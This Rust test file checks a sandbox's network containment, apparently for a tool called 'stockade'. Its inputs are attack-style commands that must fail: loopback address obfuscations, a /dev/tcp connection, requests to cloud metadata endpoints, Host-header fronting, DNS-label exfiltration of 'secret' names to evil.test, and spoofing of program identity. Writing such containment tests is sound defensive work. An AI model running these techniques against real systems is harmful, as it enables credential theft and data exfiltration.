//! The network (family N): only traffic to a destination that a rule names leaves, under whatever
//! name.

use std::{
    net::{Ipv4Addr, TcpListener, TcpStream, UdpSocket},
    os::{
        linux::net::SocketAddrExt,
        unix::net::{SocketAddr, UnixListener},
    },
    time::Duration,
};

use stockade_testkit::{
    Output, Repo, TestEnv, UNATTENDED, env::User, escape::Scene, events, http::Response,
    lab::HttpServer, run::require_tool, wait,
};

use crate::attacks::{
    environment, for_each_user,
    matrix::{Attempt, Matrix, closed},
};

/// Policy with one allowed host of the laboratory and one denied zone.
fn policy(env: &TestEnv, port: u16) -> Vec<String> {
    let text = format!(
        "schema = 1\n[network.hosts]\n\"good.test\" = \"127.0.0.1\"\n\"evil.test\" = \"127.0.0.1\"\n\
         [[allow]]\nid = \"good\"\nwhat = \"net\"\nhosts = [\"good.test\"]\nports = [{port}]\n\
         private = true\nreason = \"lab\"\n\
         [[allow]]\nid = \"greedy\"\nwhat = \"net\"\n\
         hosts = [\"169.254.169.254\", \"metadata.google.internal\", \"fd00:ec2::23\", \"fd20:ce::254\", \"fd00:42::42\"]\n\
         ports = [80]\nprivate = true\nreason = \"lab\"\n\
         [[deny]]\nid = \"evil\"\nwhat = \"net\"\nhosts = [\"evil.test\", \"**.evil.test\"]\nreason = \"lab\"\n"
    );
    vec![
        "--policy".into(),
        env.write("policy.toml", &text).display().to_string(),
    ]
}

fn inside(env: &TestEnv, options: &[String], line: &str) -> (Output, Vec<events::Event>) {
    inside_of(env, &env.repo(), options, line)
}

fn inside_of(
    env: &TestEnv,
    repo: &Repo,
    options: &[String],
    line: &str,
) -> (Output, Vec<events::Event>) {
    let output = env.session(repo.path()).args(options).line(line).output();
    let record = env.record();
    (output, record)
}

/// The allowed host works, through the same server that nothing else reaches.
#[test]
fn n42_the_allowed_host_works() {
    for_each_user(|env| {
        let server = HttpServer::start();
        let line = format!("curl -sS -m 10 http://good.test:{}/ok", server.port());
        let (output, record) = inside(env, &policy(env, server.port()), &line);
        output.assert_success();
        assert_eq!(server.requests().len(), 1);
        assert!(
            !record.iter().any(events::Event::is_refusal),
            "{}",
            events::summary(&record)
        );
    });
}

/// Spellings of the machine's own addresses reach nothing on it: loopback is the session's own.
#[test]
fn n08_the_machines_loopback_is_another() {
    let server = HttpServer::start();
    let six = HttpServer::start();
    let port = server.port();
    let second = HttpServer::on((Ipv4Addr::new(127, 0, 0, 2), port).into(), |_| {
        Response::text(200, "lab\n")
    });
    let names = [
        "127.0.0.1",
        "2130706433",
        "0x7f.1",
        "0177.1",
        "127.1",
        "localhost",
        "0",
        "0.0.0.0",
        "[::ffff:127.0.0.1]",
        "127.0.0.2",
    ];
    let lines: Vec<(String, String)> = names
        .iter()
        .enumerate()
        .map(|(at, name)| {
            let line = format!("curl -gsS -m 5 --noproxy '*' http://{name}:{port}/");
            (format!("spelling-{at}"), line)
        })
        .collect();
    let mut attempts: Vec<Attempt<'_>> = lines
        .iter()
        .map(|(name, line)| closed(name, line))
        .collect();
    let device = format!("exec 7<> /dev/tcp/127.0.0.1/{}", six.port());
    attempts.push(closed("device", &device));
    Matrix {
        tools: &["curl"],
        ..Matrix::new("N08", &attempts)
    }
    .check();
    // Only the controls arrived: one for each spelling and user.
    let users = stockade_testkit::env::User::all().len();
    assert_eq!(server.requests().len(), (names.len() - 1) * users);
    assert_eq!(second.requests().len(), users);
}

/// A connection that is still open when the session ends is closed and reported, with its bytes.
#[test]
fn t01_connections_that_outlive_their_session_are_closed_in_the_record() {
    for_each_user(|env| {
        let server = HttpServer::with(|_| {
            std::thread::sleep(Duration::from_secs(4));
            Response::text(200, "late\n")
        });
        let line = format!("curl -sS -m 1 http://good.test:{}/slow; :", server.port());
        let (output, record) = inside(env, &policy(env, server.port()), &line);
        assert!(output.stderr.contains("timed out"), "{output:?}");
        let closed: Vec<_> = record
            .iter()
            .filter(|event| event.kind() == "connection.closed")
            .collect();
        let [closed] = closed.as_slice() else {
            panic!("{}", events::summary(&record));
        };
        let bytes = |name: &str| closed.json.get(name).and_then(serde_json::Value::as_u64);
        assert!(bytes("bytes_out") > Some(0), "{closed:#?}");
        assert_eq!(bytes("bytes_in"), Some(0), "{closed:#?}");
    });
}

/// Makes a network whose only address is in a public range, with a service of the machine there
/// that records its clients, and runs the command in it as an ordinary user.
const AT_A_PUBLIC_ADDRESS: &str = r#"
    ip link set lo up && ip address add 8.8.4.4/32 dev lo || exit 99
    perl -MIO::Socket::INET -e '
        $| = 1;
        my $l = IO::Socket::INET->new(LocalAddr => "8.8.4.4", LocalPort => 8080, Listen => 5) or exit 1;
        print "up\n";
        while (my $s = $l->accept) {
            <$s>; open my $f, ">>", $ENV{SEEN}; print $f "seen\n"; close $f;
            print $s "HTTP/1.1 200 OK\r\nContent-Length: 3\r\nConnection: close\r\n\r\nlab";
        }' > "$SEEN.up" &
    service=$!
    until [ -s "$SEEN.up" ]; do kill -0 $service || exit 98; sleep 0.01; done
    unshare --user --map-user=1001 --map-group=1001 "$@"
    code=$?
    kill $service
    exit $code"#;

/// The machine's own addresses belong to it in every range: a name of an allowed zone that resolves
/// to one reaches no service of the machine.
#[test]
fn n08_a_public_address_of_the_machine_is_the_machine() {
    for tool in ["ip", "perl", "curl", "unshare"] {
        require_tool(tool);
    }
    for private in [false, true] {
        let user = User::ordinary();
        let env = environment(user.as_deref());
        let seen = env.write("seen", "");
        env.own(&seen);
        let text = format!(
            "schema = 1\n[network.hosts]\n\"good.test\" = \"8.8.4.4\"\n[[allow]]\nid = \"good\"\nwhat = \"net\"\n\
             hosts = [\"good.test\"]\nports = [8080]\nprivate = {private}\nreason = \"lab\"\n"
        );
        let policy = env.write("policy.toml", &text);
        env.own(&policy);
        let repo = env.repo();
        let output = env
            .as_root_of("--net", AT_A_PUBLIC_ADDRESS)
            .arg(env.binary())
            .args(UNATTENDED)
            .arg("--session-file")
            .arg(env.root().join("session"))
            .arg("--policy")
            .arg(&policy)
            .args(["--", "curl", "-sS", "-m", "5", "http://good.test:8080/"])
            .env("SEEN", &seen)
            .current_dir(repo.path())
            .output();
        let record = env.record();
        let refused = |e: &&events::Event| e.is_refusal() && e.targets("good.test");
        let refusals: Vec<_> = record.iter().filter(refused).collect();
        let asked = std::fs::read_to_string(&seen).expect("the fixture is ours");
        if private {
            assert!(output.stdout.ends_with("lab"), "{output:?}");
            assert_eq!((asked.as_str(), refusals.len()), ("seen\n", 0));
        } else {
            assert!(output.stdout.contains("private-address"), "{output:?}");
            assert_eq!(asked, "", "{output:?}");
            assert_eq!(refusals.len(), 1, "{}", events::summary(&record));
        }
    }
}

/// Every other way to send something ends inside, with one event for the named destination.
#[test]
fn n02_what_no_rule_names_does_not_leave() {
    let server = HttpServer::start();
    let port = server.port();
    let resolve = format!("--resolve evil.test:{port}:127.0.0.1");
    let denied = format!("curl -sS -m 5 http://y.evil.test:{port}/");
    let denied_twin = format!("curl -sS -m 5 {resolve} http://evil.test:{port}/");
    let no_proxy = format!("NO_PROXY='*' curl -sS -m 5 --noproxy '*' http://x.evil.test:{port}/");
    let fronted = format!("curl -fsS -m 5 -H 'Host: evil.test' http://good.test:{port}/");
    let fronted_twin = format!("curl -fsS -m 5 -H 'Host: evil.test' http://127.0.0.1:{port}/");
    let attempts = [
        closed("denied", &denied)
            .twin(&denied_twin)
            .event("name.decided", "evil", "y.evil.test"),
        closed("no-proxy", &no_proxy).twin(&denied_twin).event(
            "name.decided",
            "evil",
            "x.evil.test",
        ),
        closed("front", &fronted).twin(&fronted_twin).event(
            "http.decided",
            "name-mismatch",
            "good.test",
        ),
        closed("port", "curl -fsS -m 5 http://good.test:2222/")
            .twin(&denied_twin)
            .event("connection.decided", "", "2222"),
        closed("address", "curl -fsS -m 5 http://192.0.2.1/")
            .twin(&denied_twin)
            .event("connection.decided", "never-reached", "192.0.2.1"),
        closed("metadata", "curl -fsS -m 5 http://169.254.169.254/")
            .twin(&denied_twin)
            .event("connection.decided", "metadata", "169.254.169.254"),
        closed(
            "metadata-name",
            "curl -fsS -m 5 http://metadata.google.internal/",
        )
        .twin(&denied_twin)
        .event("name.decided", "metadata", "metadata.google.internal"),
        closed(
            "metadata-mapped",
            "curl -gfsS -m 5 'http://[::ffff:100.100.100.200]/'",
        )
        .twin(&denied_twin)
        .event("connection.decided", "metadata", "100.100.100.200"),
        closed("metadata-pods", "curl -gfsS -m 5 'http://[fd00:ec2::23]/'")
            .twin(&denied_twin)
            .event("connection.decided", "metadata", "fd00:ec2::23"),
        closed("metadata-six", "curl -gfsS -m 5 'http://[fd20:ce::254]/'")
            .twin(&denied_twin)
            .event("connection.decided", "metadata", "fd20:ce::254"),
        closed("metadata-other", "curl -gfsS -m 5 'http://[fd00:42::42]/'")
            .twin(&denied_twin)
            .event("connection.decided", "metadata", "fd00:42::42"),
        closed(
            "metadata-nat64",
            "curl -gfsS -m 5 'http://[64:ff9b::a9fe:a9fe]/'",
        )
        .twin(&denied_twin)
        .event("connection.decided", "metadata", "64:ff9b::a9fe:a9fe"),
        closed("unfamiliar", "curl -fsS -m 5 http://unfamiliar.test/")
            .twin(&denied_twin)
            .event("name.decided", "unfamiliar-host", "unfamiliar.test"),
    ];
    Matrix {
        tools: &["curl"],
        options: &|scene: &Scene| policy(&scene.env, port),
        ..Matrix::new("N02", &attempts)
    }
    .check();
    let paths: Vec<String> = server
        .requests()
        .iter()
        .map(|r| r.path().to_owned())
        .collect();
    let users = stockade_testkit::env::User::all().len();
    assert_eq!(
        paths.len(),
        attempts.len() * users,
        "only the controls arrived: {paths:?}"
    );
}

/// Datagrams and ICMP cannot leave: the only interface is the session's own.
#[test]
fn n02_datagrams_do_not_leave() {
    let receiver = UdpSocket::bind((Ipv4Addr::LOCALHOST, 0)).expect("loopback has ports");
    receiver
        .set_read_timeout(Some(Duration::from_millis(300)))
        .expect("a time-out can be set");
    let port = receiver.local_addr().expect("it is bound").port();
    let line = format!(
        "perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(Proto => \"udp\", PeerAddr => \"127.0.0.1:{port}\"); $s->send(\"datagram\")'; \
         perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(Proto => \"udp\", PeerAddr => \"192.0.2.9:443\"); $s->send(\"quic\"); $s->send(\"quic\") or print \"refused\\n\"'; \
         cat /proc/net/dev"
    );
    for_each_user(|env| {
        let mut buffer = [0; 64];
        let repo = env.repo_named("control");
        env.shell(repo.path(), &line);
        assert_eq!(receiver.recv(&mut buffer).expect("the control arrives"), 8);
        let (output, _) = inside(env, &[], &line);
        assert!(receiver.recv(&mut buffer).is_err(), "{output:?}");
        let interfaces: Vec<&str> = output
            .stdout
            .lines()
            .filter_map(|l| l.split_once(':'))
            .map(|(n, _)| n.trim())
            .collect();
        assert_eq!(interfaces, ["lo"], "{output:?}");
        assert!(output.stdout.contains("refused"), "{output:?}");
    });
}

/// Denied names get no answer, and one event names each.
#[test]
fn n22_names_carry_nothing_out() {
    for_each_user(|env| {
        let port = 9;
        let line = "for n in 1 2 3; do getent hosts secret$n.evil.test && echo resolved; done; \
                    perl -MIO::Socket::INET -e '$s = IO::Socket::INET->new(Proto => \"udp\", PeerAddr => \"8.8.8.8:53\"); \
                    $s->send(pack(\"n6\", 7, 256, 1, 0, 0, 0) . \"\\x04txt1\\x04evil\\x04test\\x00\" . pack(\"n2\", 16, 1)); \
                    $s->recv($b, 512); print \"code \", ord(substr($b, 3, 1)) & 15, \"\\n\"'";
        let (output, record) = inside(env, &policy(env, port), line);
        assert!(!output.stdout.contains("resolved"), "{output:?}");
        assert!(output.stdout.contains("code 3"), "{output:?}");
        for name in [
            "secret1.evil.test",
            "secret2.evil.test",
            "secret3.evil.test",
            "txt1.evil.test",
        ] {
            events::assert_one_refusal(&record, name, "evil");
        }
    });
}

/// Abstract sockets of the machine do not exist inside.
#[test]
fn n30_abstract_sockets_are_the_sessions_own() {
    for_each_user(|env| {
        let name = format!(
            "stockade-test-{}-{}",
            std::process::id(),
            env.root().display()
        );
        let address = SocketAddr::from_abstract_name(&name).expect("a short name");
        let listener = UnixListener::bind_addr(&address).expect("the name is ours");
        listener.set_nonblocking(true).expect("it is a socket");
        let line = format!(
            "perl -MSocket -e 'socket($s, AF_UNIX, SOCK_STREAM, 0); connect($s, pack(\"Sa*\", 1, \"\\0{name}\")) and print \"connected\"'"
        );
        let repo = env.repo_named("control");
        env.shell(repo.path(), &line).assert_stdout("connected");
        assert!(listener.accept().is_ok(), "control");
        let (output, _) = inside(env, &[], &line);
        assert_eq!(output.stdout, "", "{output:?}");
        assert!(listener.accept().is_err());
    });
}

/// A listener inside cannot be reached from the machine.
#[test]
fn n32_listeners_inside_are_not_reachable() {
    for_each_user(|env| {
        let free = TcpListener::bind((Ipv4Addr::LOCALHOST, 0)).expect("loopback has ports");
        let port = free.local_addr().expect("it is bound").port();
        drop(free);
        let line = format!(
            "perl -MIO::Socket::INET -e '$l = IO::Socket::INET->new(Listen => 1, LocalAddr => \"0.0.0.0:{port}\") or exit 1; \
             open($f, \">\", \"listening\"); close $f; $l->timeout(2); $l->accept'"
        );
        let reachable = |repo: &stockade_testkit::Repo, run: stockade_testkit::Run| {
            let running = run.current_dir(repo.path()).spawn();
            let ready = || repo.path().join("listening").exists();
            assert!(
                wait::until_true(Duration::from_secs(10), ready),
                "{}",
                running.stderr()
            );
            TcpStream::connect((Ipv4Addr::LOCALHOST, port)).is_ok()
        };
        let bare = env.command("/bin/bash").args(["--norc", "-c", &line]);
        assert!(reachable(&env.repo_named("control"), bare), "control");
        let run = env
            .stockade()
            .args(UNATTENDED)
            .args(["--", "/bin/bash", "--norc", "-c", &line]);
        assert!(!reachable(&env.repo(), run));
    });
}

/// Without a network not even names can be looked up.
#[test]
fn n02_offline_has_nothing() {
    for_each_user(|env| {
        let server = HttpServer::start();
        let options = [policy(env, server.port()), vec!["--offline".into()]].concat();
        let line = format!(
            "curl -sS -m 5 http://good.test:{}/; getent hosts good.test",
            server.port()
        );
        let (output, _) = inside(env, &options, &line);
        assert_eq!(output.stdout, "", "{output:?}");
        server.assert_untouched();
    });
}

/// Policy under which only certain programs reach `good.test`.
fn only(env: &TestEnv, port: u16, programs: &str) -> Vec<String> {
    let text = format!(
        "schema = 1\n[network.hosts]\n\"good.test\" = \"127.0.0.1\"\n[[allow]]\nid = \"good\"\nwhat = \"net\"\n\
         hosts = [\"good.test\"]\nports = [{port}]\nprograms = [\"{programs}\"]\nprivate = true\nreason = \"lab\"\n"
    );
    vec![
        "--policy".into(),
        env.write("only.toml", &text).display().to_string(),
    ]
}

/// Perl that defines `get`, which sends a request for a path over a new connection.
fn perl_get(port: u16) -> String {
    format!(
        "use IO::Socket::INET; sub get {{ my $s = IO::Socket::INET->new(\"good.test:{port}\") or return; \
         print $s \"GET /$_[0] HTTP/1.0\\r\\nHost: good.test:{port}\\r\\n\\r\\n\"; my @a = <$s>; }} "
    )
}

fn paths(server: &HttpServer) -> Vec<String> {
    let requests = server.requests();
    requests.iter().map(|r| r.path().to_owned()).collect()
}

/// The refused connections to `good.test`.
fn refused_connections(record: &[events::Event]) -> Vec<&events::Event> {
    record
        .iter()
        .filter(|e| e.kind() == "connection.decided" && e.is_refusal() && e.targets("good.test"))
        .collect()
}

/// A rule about programs identifies them by their file: a name proves nothing.
#[test]
fn n40_a_programs_name_proves_nothing() {
    for_each_user(|env| {
        let server = HttpServer::start();
        let port = server.port();
        let request = format!("{}get(\"perl\")", perl_get(port));
        let line = format!(
            "curl -sS -m 5 http://good.test:{port}/curl; cp /usr/bin/perl ./curl; \
             (exec -a /usr/bin/curl perl -e '{request}'); ./curl -e '{request}'; :"
        );
        let (output, record) = inside(env, &only(env, port, "/usr/bin/curl"), &line);
        assert_eq!(paths(&server), ["/curl"], "{output:?}");
        let refused = refused_connections(&record);
        assert_eq!(refused.len(), 2, "{}", events::summary(&record));
    });
}

/// An execution that a program tried but that failed, one that it only checked, or a later one by
/// its parent, does not change the program's identity.
#[test]
fn n40_an_execution_that_did_not_happen_lends_no_name() {
    for_each_user(|env| {
        let (repo, server) = (env.repo(), HttpServer::start());
        let port = server.port();
        let attempts = [
            // One argument is longer than the kernel accepts.
            (
                "failed",
                "{ exec {\"/usr/bin/curl\"} \"curl\", \"x\" x 200_000 } get(\"failed\")",
            ),
            // AT_EXECVE_CHECK: nothing is executed.
            (
                "asked",
                "my ($p, $v, $e) = (\"/usr/bin/curl\", pack(\"pQ\", \"curl\", 0), pack(\"Q\", 0)); \
                 syscall(322, -100, $p, $v, $e, 0x10000); get(\"asked\")",
            ),
            (
                "forked",
                "pipe(R, W); if (!fork) { sleep 1; get(\"forked\"); exit } close W; open(STDIN, \"<&R\"); \
                 exec \"/usr/bin/curl\", \"-sK\", \"-\"",
            ),
        ];
        for (name, attempt) in attempts {
            let before = server.requests().len();
            let line = format!(
                "perl -e '{}{attempt}'; curl -sS -m 5 http://good.test:{port}/curl",
                perl_get(port)
            );
            let (output, record) = inside_of(env, &repo, &only(env, port, "/usr/bin/curl"), &line);
            let paths = paths(&server).split_off(before);
            assert_eq!(paths, ["/curl"], "{name}: {output:?}");
            let refused = refused_connections(&record);
            assert_eq!(refused.len(), 1, "{name}: {}", events::summary(&record));
            let process = &refused[0].json["process"];
            let own = (&process["exe"], &process["argv"][0]);
            assert_eq!(own, (&"/usr/bin/perl".into(), &"perl".into()), "{name}");
            let started = record.iter().filter(|event| {
                event.kind() == "process.started" && event.json["process"]["exe"] == "/usr/bin/curl"
            });
            let expected = if name == "asked" { 1 } else { 2 };
            assert_eq!(started.count(), expected, "{name}");
        }
    });
}

/// A connection belongs to all processes that hold its socket, whether or not they allow
/// inspection.
#[test]
fn n40_a_shared_socket_is_nobodys() {
    for_each_user(|env| {
        let (repo, server) = (env.repo(), HttpServer::start());
        let port = server.port();
        let request = format!("GET /shared HTTP/1.0\\r\\nHost: good.test:{port}\\r\\n\\r\\n");
        let shared = |hide: &str| {
            format!(
                "perl -MSocket -e '$^F = 255; socket(S, PF_INET, SOCK_STREAM, 0); pipe(R, W); \
                 if (!fork) {{ close W; open(STDIN, \"<&R\"); exec \"/usr/bin/curl\", \"-sK\", \"-\" }} \
                 {hide} sleep 1; connect(S, sockaddr_in({port}, inet_aton($ARGV[0]))); \
                 syswrite(S, \"{request}\"); sysread(S, $answer, 99); close W; wait' \
                 $(getent ahostsv4 good.test | cut -d \" \" -f 1 | head -n 1); "
            )
        };
        // PR_SET_DUMPABLE.
        let hidden = shared("syscall(157, 4, 0, 0, 0, 0);");
        let line = format!(
            "{}{hidden}perl -e 'syscall(157, 4, 0, 0, 0, 0); sleep 2' & sleep 0.5; \
             curl -sS -m 5 http://good.test:{port}/curl",
            shared("")
        );
        let (output, record) = inside_of(env, &repo, &only(env, port, "/usr/bin/curl"), &line);
        assert_eq!(paths(&server), ["/curl"], "{output:?}");
        let refused = refused_connections(&record);
        assert_eq!(refused.len(), 2, "{}", events::summary(&record));
        for event in refused {
            // The subject is reported as far as it is known, but without an executable.
            let process = &event.json["process"];
            assert_eq!(process["exe"], "", "{process}");
            assert_eq!(process["argv"][0], "perl", "{process}");
        }
        // Control: if both run one program, the connection is that program's.
        let both = |programs: &str| {
            let before = server.requests().len();
            let line =
                shared("").replace("/usr/bin/curl\", \"-sK\", \"-\"", "/usr/bin/perl\", \"-\"");
            inside_of(env, &repo, &only(env, port, programs), &line);
            paths(&server).split_off(before)
        };
        assert_eq!(both("/usr/bin/perl"), ["/shared"]);
        assert!(both("/usr/bin/curl").is_empty());
    });
}

/// A child made while its parent connects also holds the socket, until it executes something else:
/// that is no reason to refuse the parent.
#[test]
fn n40_children_on_their_way_are_in_nobodys_way() {
    const CONNECTIONS: usize = 60;
    for_each_user(|env| {
        let (repo, server) = (env.repo(), HttpServer::start());
        let port = server.port();
        let line = format!(
            "perl -MSocket -e '$to = sockaddr_in({port}, inet_aton($ARGV[0])); for $n (1..{CONNECTIONS}) {{ \
               socket($s, PF_INET, SOCK_STREAM, 0); connect($s, $to); \
               fork or exec \"/bin/true\"; \
               syswrite($s, \"GET /$n HTTP/1.0\\r\\nHost: good.test:{port}\\r\\n\\r\\n\"); sysread($s, $_, 99); \
               close $s; wait }}' $(getent ahostsv4 good.test | cut -d \" \" -f 1 | head -n 1)"
        );
        let (output, record) = inside_of(env, &repo, &only(env, port, "/usr/bin/perl"), &line);
        let all = events::summary(&record);
        assert_eq!(refused_connections(&record).len(), 0, "{output:?}\n{all}");
        assert_eq!(server.requests().len(), CONNECTIONS, "{output:?}");
    });
}

/// The listener on a connection's source port is not the connecting program.
#[test]
fn n40_a_listener_lends_no_name() {
    for_each_user(|env| {
        let (repo, server) = (env.repo(), HttpServer::start());
        let port = server.port();
        let listen = "perl -MIO::Socket::INET -e '$l = IO::Socket::INET->new(Listen => 5, LocalAddr => \"0.0.0.0:3000\", ReuseAddr => 1) or die; print \"listens\\n\"; sleep 3' &";
        let connect = |program: &str, path: &str| {
            format!(
                "{program} -MSocket=:all -e 'socket(S, AF_INET6, SOCK_STREAM, 0); \
                 setsockopt(S, IPPROTO_IPV6, IPV6_V6ONLY, 1); setsockopt(S, SOL_SOCKET, SO_REUSEADDR, 1); \
                 bind(S, pack_sockaddr_in6(3000, IN6ADDR_ANY)) or die; \
                 my ($e, $r) = getaddrinfo(\"good.test\", {port}, {{family => AF_INET6, socktype => SOCK_STREAM}}); \
                 connect(S, $r->{{addr}}) or die $!; \
                 syswrite(S, \"GET /{path} HTTP/1.0\\r\\nHost: good.test:{port}\\r\\n\\r\\n\"); sysread(S, $answer, 99)'"
            )
        };
        let other = connect("./other", "other");
        let line = format!(
            "cp /usr/bin/perl ./other; {listen} sleep 1; {other}; wait; {}",
            connect("perl", "perl")
        );
        let (output, record) = inside_of(env, &repo, &only(env, port, "/usr/bin/perl"), &line);
        assert!(output.stdout.contains("listens"), "{output:?}");
        assert_eq!(paths(&server), ["/perl"], "{output:?}");
        let refused = refused_connections(&record);
        assert_eq!(refused.len(), 1, "{}", events::summary(&record));
        let exe = refused[0].json["process"]["exe"].as_str();
        assert!(exe.is_some_and(|exe| exe.ends_with("/other")), "{exe:?}");
    });
}

/// Long arguments neither prevent a program's connections nor hide it from the record.
#[test]
fn n40_long_arguments_hide_nobody() {
    for_each_user(|env| {
        let (repo, server) = (env.repo(), HttpServer::start());
        let port = server.port();
        let line = format!(
            "perl -e 'exec(\"perl\", \"-e\", $ARGV[0], (\"x\" x 100_000) x 12)' '{}get(\"long\")'",
            perl_get(port)
        );
        let (output, _) = inside_of(env, &repo, &only(env, port, "/usr/bin/perl"), &line);
        assert_eq!(paths(&server), ["/long"], "{output:?}");
        let (output, record) = inside_of(env, &repo, &only(env, port, "/usr/bin/curl"), &line);
        assert_eq!(paths(&server), ["/long"], "{output:?}");
        let refused = refused_connections(&record);
        assert_eq!(refused.len(), 1, "{}", events::summary(&record));
    });
}

/// Each connection of a flood is refused with its event, and others succeed meanwhile.
#[test]
fn r12_no_refused_connection_is_lost_in_a_flood() {
    const COUNT: usize = 1000;
    for_each_user(|env| {
        let (repo, server) = (env.repo(), HttpServer::start());
        let port = server.port();
        let flood = |address: &str, port: u16| {
            format!(
                "perl -MSocket -MFcntl -e '$a = sockaddr_in({port}, inet_aton(\"{address}\")); \
                 for $n (1 .. {COUNT}) {{ socket($s, PF_INET, SOCK_STREAM, 0) or die $!; \
                 fcntl($s, F_SETFL, O_NONBLOCK); connect($s, $a); push @s, $s; undef $s }} \
                 for $s (@s) {{ fcntl($s, F_SETFL, 0); sysread($s, $b, 1) and print \"answer\\n\" }}'"
            )
        };
        // With rules about programs, all holders of a socket are searched for; without, only the
        // first.
        let cases = [
            (only(env, port, "/usr/bin/curl"), "good.test", port),
            (policy(env, port), "192.0.2.1", 80),
        ];
        for (options, target, flooded) in cases {
            let before = server.requests().len();
            let line = format!(
                "ulimit -n 2000 && ({} & sleep 0.3; curl -sS -m 30 http://good.test:{port}/ok; wait)",
                flood(target, flooded)
            );
            let (output, record) = inside_of(env, &repo, &options, &line);
            assert!(!output.stdout.contains("answer"), "{output:?}");
            assert_eq!(paths(&server).split_off(before), ["/ok"], "{output:?}");
            let refused: Vec<_> = record
                .iter()
                .filter(|e| e.kind() == "connection.decided" && e.is_refusal() && e.targets(target))
                .collect();
            // Repeated refusals are counted.
            let again = |e: &&events::Event| {
                let of = |r: &&events::Event| r.json["decision"] == e.json["decision"];
                e.kind() == "refusal.repeated" && refused.iter().any(of)
            };
            let counted = record.iter().filter(again);
            let counted: u64 = counted.filter_map(|e| e.json["count"].as_u64()).sum();
            let all = refused.len() + usize::try_from(counted).expect("there are few");
            assert_eq!(all, COUNT, "{target}: {output:?}");
            let named = |event: &&events::Event| event.json["process"]["exe"] == "/usr/bin/perl";
            assert!(refused.iter().all(named), "{target}");
        }
    });
}
